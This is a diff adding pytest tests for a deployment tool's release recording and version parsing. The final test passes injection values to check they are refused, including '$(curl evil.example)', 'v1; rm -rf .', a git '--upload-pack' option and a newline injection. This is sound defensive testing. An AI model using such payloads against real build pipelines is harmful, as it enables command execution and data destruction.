@@ -1,0 +1,126 @@
+"""The last good release is recorded, and what a roll-back goes back to never stops the next release."""
+
+from __future__ import annotations
+
+from collections.abc import Mapping
+from typing import Any
+
+import pytest
+
+from stacks.environment import Environment
+from tests.sample_environment import environment
+from tools import _releases, plan
+from tools._common import ToolError, client
+from tools._releases import NONE, Release
+
+__all__ = ["environment"]
+COMMIT = "4f2c1e9" + "0" * 33
+GOOD = Release("good", COMMIT)
+
+
+def running(monkeypatch: pytest.MonkeyPatch, tags: Mapping[str, str]) -> None:
+    def fake(_environment: Environment) -> dict[str, str]:
+        return dict(tags)
+
+    monkeypatch.setattr(_releases, "running_tags", fake)
+
+
+def previous(environment: Environment) -> tuple[Release, list[str]]:
+    warned: list[str] = []
+    return _releases.previous(environment, warned.append), warned
+
+
+def test_what_is_recorded_is_what_a_roll_back_goes_back_to(
+    environment: Environment, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    running(monkeypatch, {"chat": "good", "web": "good"})
+    _releases.record(environment, Release("older", COMMIT))
+    _releases.record(environment, GOOD)
+    assert previous(environment) == (GOOD, [])
+    assert GOOD.outputs() == f"tag=good\ncommit={COMMIT}"
+    names = [each["Name"] for each in client(environment, "ssm").describe_parameters()["Parameters"]]
+    assert names == ["/adelie/prod/release"]
+
+
+def test_a_release_that_failed_half_way_stops_nobody(environment: Environment, monkeypatch: pytest.MonkeyPatch) -> None:
+    running(monkeypatch, {"chat": "bad", "web": "good"})
+    _releases.record(environment, GOOD)
+    assert previous(environment) == (GOOD, ["chat runs bad, not good"])
+
+
+@pytest.mark.parametrize(
+    ("tags", "chosen"),
+    [
+        ({"a": "new", "b": "old", "c": "old"}, "old"),
+        ({"a": "new", "b": "old"}, "new"),
+        ({"a": "old", "b": "new"}, "new"),
+    ],
+)
+def test_without_a_record_what_most_services_run_counts(
+    environment: Environment, monkeypatch: pytest.MonkeyPatch, tags: Mapping[str, str], chosen: str
+) -> None:
+    running(monkeypatch, tags)
+    release, warned = previous(environment)
+    assert release == Release(chosen)
+    assert warned[0] == f"no release is recorded in /adelie/prod/release: what most services run counts, {chosen}"
+    assert plan.running_tag(environment) == chosen
+
+
+def test_before_the_first_release_there_is_none(environment: Environment) -> None:
+    assert previous(environment) == (NONE, [])
+    assert NONE.outputs() == "tag=\ncommit="
+    assert plan.running_tag(environment) == plan.UNBUILT
+
+
+@pytest.mark.parametrize("release", [Release("good"), Release("good", "4f2c1e9"), Release("a b", COMMIT)])
+def test_only_a_tag_and_a_whole_commit_are_recorded(environment: Environment, release: Release) -> None:
+    with pytest.raises(ToolError, match=r"is no (tag of an image|whole commit); give the application's commit"):
+        _releases.record(environment, release)
+    assert _releases.recorded(environment) is None
+
+
+@pytest.mark.parametrize(
+    "value", ["good", "{}", "[]", '{"tag": "good"}', '{"tag": "good\\ncommit=x", "commit": "x"}', "null"]
+)
+def test_a_parameter_that_somebody_spoiled_is_refused_with_the_fix(environment: Environment, value: str) -> None:
+    client(environment, "ssm").put_parameter(Name=_releases.parameter(environment), Value=value, Type="String")
+    with pytest.raises(ToolError, match=r"write /adelie/prod/release again: `python -m tools.release record`"):
+        _releases.recorded(environment)
+
+
+def published(body: str | None) -> dict[str, Any]:
+    return {"release": {"body": body, "tag_name": "v7"}}
+
+
+@pytest.mark.parametrize(
+    ("event", "ref"),
+    [
+        ({"inputs": {"environment": "prod", "ref": "feature/x"}}, "feature/x"),
+        (published("Faster.\r\n\r\nApplication: v1.4.2\r\nThanks!"), "refs/tags/v1.4.2"),
+        (published(f"application: `{COMMIT}`"), COMMIT),
+        (published("application: main"), "refs/tags/main"),
+        (published("application: v1\napplication: v1"), "refs/tags/v1"),
+    ],
+)
+def test_which_version_of_the_application_is_built(event: Any, ref: str) -> None:
+    assert _releases.application_ref(event) == ref
+
+
+@pytest.mark.parametrize(
+    ("event", "why"),
+    [
+        (published(None), "have no line `application: <tag or commit>`; release it by hand"),
+        (published("The application: is faster."), "have no line"),
+        (published("application: v1\napplication: v2"), "have 2 different lines"),
+        (published("application:"), "which is no tag or commit"),
+        (published("application: $(curl evil.example)"), "which is no tag or commit"),
+        (published("application: v1; rm -rf ."), "which is no tag or commit"),
+        (published("application: --upload-pack=x"), "which is no tag or commit"),
+        (published("application: ../../x"), "which is no tag or commit"),
+        ({"inputs": {"ref": "main\nref=evil"}}, "is no branch, tag or commit"),
+        ({"inputs": {"ref": ""}}, "is no branch, tag or commit"),
+    ],
+)
+def test_what_is_no_version_reaches_neither_git_nor_a_shell(event: Any, why: str) -> None:
+    with pytest.raises(ToolError, match=why):
+        _releases.application_ref(event)
